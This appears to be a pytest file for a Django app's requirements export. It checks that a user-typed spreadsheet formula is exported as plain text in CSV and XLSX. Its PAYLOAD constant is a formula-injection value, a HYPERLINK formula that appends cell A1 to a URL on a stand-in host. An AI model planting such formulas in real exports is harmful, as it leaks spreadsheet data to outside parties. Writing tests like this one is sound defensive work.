"""Exports: spreadsheet cells never turn text a user typed into a formula (CSV and XLSX alike)."""

from __future__ import annotations

import io
from typing import Any

import pytest
from django.test import Client

from pledgeflow.requirements.choices import RequirementStatus, VersionStatus
from tests.db import factories_records as records

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


@pytest.fixture
def typed_formula(recipient_officer: Any) -> Any:
    """An approved requirement whose package code, typed by the recipient, reads like a formula."""
    records.kyiv()
    version = records.list_version(VersionStatus.APPROVED, label="2026-10", number=1)
    return records.requirement(
        version, reference="UKR-ART-0001", status=RequirementStatus.APPROVED, package_code=PAYLOAD
    )


def _export(user: Any, fmt: str) -> bytes:
    client = Client()
    client.force_login(user)
    response = client.get(f"/requirements/?list_version=2026-10&export={fmt}")
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_a_typed_formula_is_text_in_the_csv_export(typed_formula: Any, viewer: Any) -> None:
    body = _export(viewer, "csv").decode("utf-8-sig")
    assert "'" + PAYLOAD.replace('"', '""') in body


def test_a_typed_formula_is_text_in_the_xlsx_export(typed_formula: Any, viewer: Any) -> None:
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(_export(viewer, "xlsx"))).active
    cells = [
        cell for row in sheet.iter_rows() for cell in row if cell.value and "HYPERLINK" in str(cell.value)
    ]
    assert cells, "the package code is exported"
    assert all(cell.data_type != "f" for cell in cells), [(c.coordinate, c.data_type) for c in cells]
